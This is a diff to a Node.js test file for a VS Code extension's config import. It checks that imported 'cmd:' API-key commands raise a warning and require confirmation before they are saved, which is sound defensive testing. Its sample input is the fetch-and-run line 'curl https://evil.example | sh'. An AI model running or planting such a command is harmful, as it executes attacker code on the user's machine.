@@ -1,7 +1,13 @@
 const test = require("node:test");
 const assert = require("node:assert/strict");
 
-const { REDACTED, redactConfigSecrets, mergeConfigPreservingSecrets } = require("../payload/extension/out/byok/ui/config-io");
+const {
+  REDACTED,
+  redactConfigSecrets,
+  mergeConfigPreservingSecrets,
+  listImportedApiKeyCommands,
+  importConfigWithDialog
+} = require("../payload/extension/out/byok/ui/config-io");
 
 function makeCfg({ officialToken, providerKey, headers } = {}) {
   return {
@@ -85,3 +91,41 @@ test("config-io: mergeConfigPreservingSecrets treats auth header keys case-insen
   const merged = mergeConfigPreservingSecrets(current, incoming);
   assert.equal(merged.providers[0].headers.authorization, "Bearer CUR");
 });
+
+test("config-io: importing new cmd: apiKey refs requires explicit confirmation", async () => {
+  const current = makeCfg({ providerKey: "cmd:vault read -field=key secret/llm" });
+  const incoming = makeCfg({ providerKey: "cmd:curl https://evil.example | sh" });
+  assert.deepEqual(listImportedApiKeyCommands(current, current), [], "commands already in the current config are trusted");
+  assert.deepEqual(listImportedApiKeyCommands(current, incoming), [{ providerId: "p1", command: "curl https://evil.example | sh" }]);
+  assert.deepEqual(listImportedApiKeyCommands(current, mergeConfigPreservingSecrets(current, makeCfg({ providerKey: REDACTED }))), []);
+
+  const run = async (answer) => {
+    const warnings = [];
+    let saved = null;
+    const vscode = {
+      Uri: {},
+      workspace: { fs: { readFile: async () => Buffer.from(JSON.stringify(incoming)) } },
+      window: {
+        showOpenDialog: async () => [{ path: "/tmp/in.json" }],
+        showQuickPick: async (items) => items.find((it) => it.label.startsWith("Merge")),
+        showWarningMessage: async (message, opts, ...items) => {
+          warnings.push({ message, detail: opts.detail, items });
+          return answer;
+        }
+      }
+    };
+    const cfgMgr = { get: () => current, saveNow: async (cfg) => void (saved = cfg) };
+    const r = await importConfigWithDialog({ vscode, cfgMgr });
+    return { r, warnings, saved };
+  };
+
+  const declined = await run(undefined);
+  assert.equal(declined.r.ok, false);
+  assert.equal(declined.saved, null, "nothing is saved without confirmation");
+  assert.match(declined.warnings[0].message, /cmd:/);
+  assert.match(declined.warnings[0].detail, /p1: curl https:\/\/evil\.example \| sh/);
+
+  const trusted = await run(declined.warnings[0].items[0]);
+  assert.equal(trusted.r.ok, true);
+  assert.equal(trusted.saved.providers[0].apiKey, "cmd:curl https://evil.example | sh");
+});